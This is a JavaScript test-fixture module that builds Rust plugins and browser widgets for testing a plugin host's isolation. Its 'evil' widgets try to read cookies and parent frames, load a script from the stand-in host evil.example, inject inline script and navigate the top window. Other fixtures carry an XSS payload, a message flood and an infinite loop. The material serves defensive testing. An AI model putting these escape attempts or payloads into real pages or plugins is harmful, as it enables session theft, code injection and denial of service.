// The plugins that the server of these tests has. What must not live here: what is done with them.
import { HOSTILE } from './corpus.mjs';

const rust = (text) => `"${text.replace(/[\\"]/g, '\\$&').replace(/[^ -~]/g, (one) => `\\u{${one.codePointAt(0).toString(16)}}`)}"`;

export const hello = (word) => `---
[package]
version = "0.1.0"
description = "Says ${word}"
---
use camlock_plugin::prelude::*;
struct Hello;
impl Plugin for Hello {
    async fn create(_host: Host) -> Result<Self> { Ok(Hello) }
    fn routes(self: Arc<Self>) -> impl Into<Routes> {
        Router::new().route("/hello", get(|| async { "${word}" }))
    }
}
export!(Hello);
`;

export const broken = hello('nothing').replace('"nothing" }', `{ let _: u8 = ${rust(HOSTILE[0])}; "x" } }`);

/** Logs what it is asked to: `/say/LEVEL/WORD`. */
export const chatty = `---
[package]
version = "0.1.0"
[dependencies]
tracing = "0.1"
---
use camlock_plugin::{axum::extract::Path, prelude::*};
struct Chatty;
impl Plugin for Chatty {
    async fn create(_host: Host) -> Result<Self> { Ok(Chatty) }
    fn routes(self: Arc<Self>) -> impl Into<Routes> { Router::new().route("/say/{level}/{word}", get(say)) }
}
async fn say(Path((level, word)): Path<(String, String)>) {
    match &*level {
        "error" => tracing::error!("{word}"),
        "warn" => tracing::warn!("{word}"),
        "debug" => tracing::debug!("{word}"),
        _ => tracing::info!(number = 7, "{word}"),
    }
}
export!(Chatty);
`;

/** The sources of a crate at this path of the site. */
export function sources(site, path, { says, broken: isBroken = false }) {
  site.write(`${path}/Cargo.toml`, `[workspace]
[package]
name = "${path.split('/').at(-1)}"
version = "0.1.0"
edition = "2024"
[lib]
crate-type = ["cdylib"]
[dependencies]
camlock-plugin = "1"
`);
  const text = hello('said').replace('"said" }', isBroken ? `{ let _: u8 = ${rust(says)}; "x" } }` : `${rust(says)} }`);
  site.write(`${path}/src/lib.rs`, text.split('---\n').at(-1));
}

/** Says all that is hostile, keeps it, and answers with it. */
export function greeter(site) {
  site.write('plugins/greeter/Cargo.toml', `[workspace]
[package]
name = "greeter"
description = ${JSON.stringify(HOSTILE[1])}
version = "0.1.0"
edition = "2024"
[package.metadata.camlock]
config = "config.schema.json"
permissions = ["storage", "network:api.example.com", "tasks", "schedule", "events:subscribe:greeter.*"]
task_types = [{ type = "tidy", attempts = 1 }]
schedules = [{ name = "nightly", cron = "30 3 * * *", zone = "Europe/Berlin" }]
subscriptions = [{ pattern = "greeter.*", name = "heard", durable = true }]
[lib]
crate-type = ["cdylib"]
[dependencies]
camlock-plugin = "1"
tracing = "0.1"
`);
  site.write('plugins/greeter/config.schema.json', JSON.stringify({
    type: 'object', additionalProperties: false,
    properties: {
      greeting: { type: 'string', minLength: 1, default: 'Hello!', description: HOSTILE[0] }, rows: { type: 'integer', minimum: 1, maximum: 10, title: 'Rows' },
      key: { type: 'string', sensitive: true, title: 'Key' }, loud: { type: 'boolean' }, tone: { enum: ['low', 'high'] }, names: { type: 'array', items: { type: 'string' } },
    },
  }));
  site.write('plugins/greeter/src/lib.rs', `use camlock_plugin::{Due, Event, Execution, Task, Value, axum::http::HeaderMap, json, prelude::*};
struct Greeter;
const HOSTILE: &[&str] = &[${HOSTILE.map(rust).join(', ')}];
impl Plugin for Greeter {
    async fn create(host: Host) -> Result<Self> {
        for (number, text) in HOSTILE.iter().enumerate() {
            tracing::warn!("{text}");
            let _ = host.storage().put(&format!("key/{number}"), text.as_bytes().to_vec()).send().await;
        }
        Ok(Greeter)
    }
    fn routes(self: Arc<Self>) -> impl Into<Routes> {
        Router::new().route("/hostile", get(|| async { as_html() })).route("/cookies", get(|headers: HeaderMap| async move { format!("{headers:?}") }))
    }
    async fn event(&self, event: Event) -> Result<()> {
        if &*event.topic == "greeter.bad" { Err(Error::msg(HOSTILE.join(" "))) } else { Ok(()) }
    }
    async fn task(&self, task: Task) -> Result<Value> {
        let input: Value = task.input()?;
        if input["fails"] == true { return Err(Error::msg(HOSTILE.join(" "))); }
        Ok(json!({ "tidied": HOSTILE }))
    }
    async fn schedule(&self, _due: Due) -> Result<()> { Ok(()) }
    async fn execute(&self, execution: Execution) -> Result<Value> {
        let input: Value = execution.input()?;
        if input["fails"] == true { Err(Error::msg(HOSTILE.join(" "))) } else { Ok(json!({ "told": HOSTILE, "input": input })) }
    }
}
fn as_html() -> ([(&'static str, &'static str); 1], String) { ([("content-type", "text/html")], HOSTILE.join("\\n")) }
export!(Greeter);
`);
}

/** A crate that brings widgets and pages: `parts` is its section `ui`, `files` what lies in its folder of that name. */
export function brings(site, name, { permissions = [], parts, files, word = '1', schema = null }) {
  if (schema) site.write(`plugins/${name}/config.schema.json`, JSON.stringify(schema));
  site.write(`plugins/${name}/Cargo.toml`, `[workspace]
[package]
name = "${name}"
version = "0.1.0"
edition = "2024"
[package.metadata.camlock]
permissions = ${JSON.stringify(permissions)}
${schema ? 'config = "config.schema.json"' : ''}
[package.metadata.camlock.ui]
${parts}
[lib]
crate-type = ["cdylib"]
[dependencies]
camlock-plugin = "1"
`);
  for (const [path, text] of Object.entries(files)) site.write(`plugins/${name}/ui/${path}`, text);
  site.write(`plugins/${name}/src/lib.rs`, hello(word).split('---\n').at(-1));
}

export const clock = (word) => `
import { shown } from './shared/shown.js';
export const widgets = {
  clock: {
    async mount(root, ctx) {
      const title = document.createElement('p');
      title.textContent = shown('${word}');
      const told = document.createElement('p');
      const button = document.createElement('button');
      button.textContent = 'Ask';
      button.addEventListener('click', async () => {
        const told_of = async (work) => { try { return await work(); } catch (error) { return error.status; } };
        const plugin = await told_of(() => ctx.read('plugin'));
        const called = await told_of(() => ctx.call('GET', '/hello'));
        told.textContent = JSON.stringify([plugin.name ?? plugin, called.body ?? called]);
      });
      root.append(title, button, told);
      return { update() {} };
    },
  },
};
export const pages = { board: { mount(root) { root.append(Object.assign(document.createElement('h1'), { textContent: 'A page of ${word}' })); } } };
`;

export const failing = "export const widgets = { clock: { mount() { throw new Error('<b>it cannot</b>'); } } };";

/** Each means harm in its own way; what one got at is what it shows. */
export const evil = {
  'reaches.js': `
export const widgets = { reaches: { async mount(root) {
  const attempts = {
    cookie: () => document.cookie || 'none', set: () => { document.cookie = 'a=1'; return document.cookie || 'none'; }, parent: () => parent.document.title, top: () => top.document.title, storage: () => localStorage.length, session: () => sessionStorage.length,
    fetch: () => fetch('/api/v1/plugins').then(({ status }) => status), beacon: () => { navigator.sendBeacon('/session', 'x'); return 'none'; }, socket: () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://' + location.host + '/'); socket.onopen = resolve; socket.onerror = reject; }),
    elsewhere: () => import('https://evil.example/x.js'), data: () => import('data:text/javascript,export default 1'), shell: () => import('/' + document.querySelector('link').href.split('/').at(-2) + '/api.js'), markup: () => { const script = document.createElement('script'); script.textContent = 'globalThis.inlined = 1'; document.body.append(script); if (!globalThis.inlined) throw new Error('no'); return 'ran'; },
    evaluate: () => new Function('return 1')(), frame: () => new Promise((resolve, reject) => { const frame = document.createElement('iframe'); frame.src = '/'; frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { reject(error); } }; document.body.append(frame); setTimeout(() => reject(new Error('no')), 300); }),
    navigate: () => { top.location = 'about:blank'; throw new Error('no'); }, popup: () => { if (!open('about:blank')) throw new Error('no'); return 'opened'; },
  };
  const got = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try { const what = await Promise.race([attempt(), new Promise((_, reject) => setTimeout(() => reject(new Error('late')), 400))]); if (what !== 'none') got.push(name + ':' + what); } catch { /* as it should be */ }
  }
  root.replaceChildren(Object.assign(document.createElement('p'), { textContent: got.length ? 'got ' + got.join(' ') : 'got nothing' }));
} } };`,
  'throws.js': "export const widgets = { throws: { mount() { throw new Error('<img src=x onerror=ran()>'); } } };",
  'later.js': "export const widgets = { later: { mount(root) { root.textContent = 'stands'; setTimeout(() => { throw new Error('later it breaks'); }, 50); } } };",
  'lacks.js': 'export const widgets = {};',
  'hangs.js': 'export const widgets = { hangs: { mount: () => new Promise(() => {}) } };',
  'floods.js': "export const widgets = { floods: { async mount(root, ctx) { for (let times = 0; times < 100000; times += 1) ctx.say('<b>x</b>'); } } };",
};
/** It holds up its own frames; not the page, and not others'. */
export const looping = 'export const widgets = { loops: { mount() { for (;;); } } };';
export const evilParts = `widgets = [${Object.keys(evil).map((file) => file.replace('.js', '')).map((id) => `{ id = "${id}", title = "Evil ${id}", module = "${id}.js" }`).join(', ')}]`;

/** A theme's colours, which can be told from the page's own, and read. */
const TOKENS = { ground: '#fdf6e3', paper: '#fffdf5', ink: '#1c1a14', soft: '#5a5340', line: '#e0d8bf', 'strong-line': '#857b5c', accent: '#7a3e00', 'on-accent': '#ffffff', good: '#14693a', bad: '#a3201a', careful: '#6b4700', hover: '#f5edd6', code: '#f8f1dd', focus: '#7a3e00' };

/** All other sorts that there are: an item of menus, a field, a theme, and a widget that is set. */
export const sorts = {
  permissions: ['ui:read', 'ui:read:all', 'ui:call'],
  parts: `menus = [{ id = "greet", title = "Greet it", module = "sorts.js" }, { id = "fails", title = "Fail at it", module = "sorts.js", permissions = [] }]
fields = [{ id = "dial", title = "Dial", module = "sorts.js", format = "dial" }]
themes = [{ id = "sand", title = "Sand", tokens = { ${Object.entries(TOKENS).map(([name, colour]) => `${name} = "${colour}"`).join(', ')} } }]
widgets = [{ id = "says", title = "Says", module = "sorts.js", config = { type = "object", properties = { word = { type = "string", title = "Word" }, of = { type = "string", title = "Whose" } } }, default = { word = "nothing", of = "sorts" } }]`,
  files: {
    'sorts.js': `
export const menus = {
  greet: { async run(ctx) { const { body } = await ctx.call('GET', '/hello'); ctx.say('greeted ' + ctx.subject.plugin + ' with ' + body); } },
  fails: { async run(ctx) { await ctx.call('GET', '/hello'); } },
};
export const fields = { dial: { mount(root, ctx) {
  const shown = document.createElement('output');
  const button = Object.assign(document.createElement('button'), { textContent: 'Turn it up' });
  let value = ctx.value;
  let heard = 0;
  const show = () => { shown.textContent = 'at ' + (value ?? 'nothing') + ', heard ' + heard; };
  button.addEventListener('click', () => { value = String(Number(value ?? 0) + 1); show(); ctx.set(value); });
  show();
  root.append(button, shown);
  return { update(change) { if ('value' in change) { value = change.value; heard += 1; show(); } } };
} } };
export const widgets = { says: { async mount(root, ctx) {
  const told = document.createElement('p');
  const show = async ({ word, of }) => { told.textContent = word + ' of ' + await ctx.read('plugin', '', of).then(({ name }) => name, ({ status }) => status); };
  await show(ctx.config);
  root.append(told);
  return { update(change) { return change.config && show(change.config); } };
} } };
`,
  },
};
